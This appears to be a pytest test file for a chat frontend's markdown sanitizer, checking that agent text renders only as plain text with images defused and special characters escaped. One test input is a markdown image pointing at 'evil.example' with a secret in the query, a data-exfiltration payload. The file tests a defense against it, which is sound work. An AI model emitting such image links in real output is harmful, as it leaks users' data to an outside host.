"""An agent's text does nothing but say what it says."""

import pytest

from constructs_lib.frontend.app.chat_app.safe_markdown import plain_label, safe_markdown


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)"),
        ("![x][ref]", "[x][ref]"),
        ("wow! [a](b)", "wow! [a](b)"),
        ("$5 and $6", r"\$5 and \$6"),
        (r"\$5", r"\$5"),
        ("`$HOME` costs $5", r"`$HOME` costs \$5"),
        ("```sh\necho $HOME ![x](y)\n```\n$1", "```sh\necho $HOME ![x](y)\n```\n\\$1"),
        ("```\nstill $writing", "```\nstill $writing"),
        (":red[alarm] :material/home:", r"\:red[alarm] \:material/home:"),
        ("at 10:30", "at 10:30"),
    ],
)
def test_markdown_is_safe(said: str, shown: str) -> None:
    assert safe_markdown(said) == shown


def test_a_label_says_what_was_typed() -> None:
    assert plain_label("ann@example.com") == r"ann\@example.com"
    assert plain_label("**a** [b](c)\n`d` $e$") == r"\*\*a\*\* \[b\](c) \`d\` \$e\$"
